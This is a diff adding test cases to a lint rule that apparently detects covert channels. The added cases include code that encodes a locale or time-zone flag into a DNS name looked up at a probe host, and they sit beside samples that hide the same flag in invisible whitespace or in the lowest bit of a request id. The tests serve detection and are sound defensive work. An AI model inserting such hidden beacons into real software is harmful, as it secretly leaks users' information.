@@ -5,6 +5,11 @@ const zone = `const cn = Intl.DateTimeFormat().resolvedOptions().timeZone === "A
 
 ruleTester('covert-channel', {
   valid: [
+    // \`resolve\` and \`lookup\` of anything but \`dns\`: a promise's, \`Promise.resolve\` of a module to load (tsc's \`import()\`), a path.
+    `const l = navigator.language.startsWith("zh") ? "zh" : "en";\nPromise.resolve(\`./locales/\${l}.js\`).then((s) => require(s));`,
+    `${zone}\nnew Promise((resolve) => resolve(\`\${cn ? "a" : "b"}.probe.example.com\`));`,
+    `${zone}\nconst p = require("path").resolve(\`\${cn ? "a" : "b"}.probe.example.com\`);`,
+    `${zone}\nconst cache = new Map(); cache.lookup = (k) => cache.get(k); cache.lookup(\`\${cn ? "a" : "b"}.probe.example.com\`);`,
     // The record a command-line switch picks, destructured with a default: no fingerprint.
     `const OPTS = [{ id: "a", q: "\\u2019" }, { id: "b", q: "\\u2019" }];\nconst { q = "'" } = OPTS.find((o) => o.id === process.argv[2]) ?? {};\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: \`It\${q}s\` }) });`,
     // Look-alikes chosen by a user setting, not a fingerprint.
@@ -119,6 +124,10 @@ ruleTester('covert-channel', {
       ['two templates of the same parts', `const render = (s) => (cn ? \`\${s}:\\u2060\` : \`\${s}:\`);`, /whitespace: `\$\{s\}:\\u2060` against `\$\{s\}:`/],
       ['an even id made odd', `const n = Math.floor(Math.random() * 1e6) * 2;\nsend({ headers: { "x-request-id": String(cn ? n + 1 : n) } });`, /lowest bit of n/],
       ['a DNS name built from the flag', `require("dns").lookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
+      ['a DNS name looked up by an imported lookup', `const { lookup } = require("node:dns");\nlookup(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
+      ['a DNS name resolved through dns.promises', `const dns = require("dns");\ndns.promises.resolve(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
+      ['a DNS name looked up by a promisified lookup', `const look = require("util").promisify(require("dns").lookup);\nlook(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
+      ['a DNS TXT record of a name built from the flag', `resolver.resolveTxt(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
     ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
     // Network cards compared with makers' prefixes (a hardware address is a machine's identity) steering whitespace.
     {
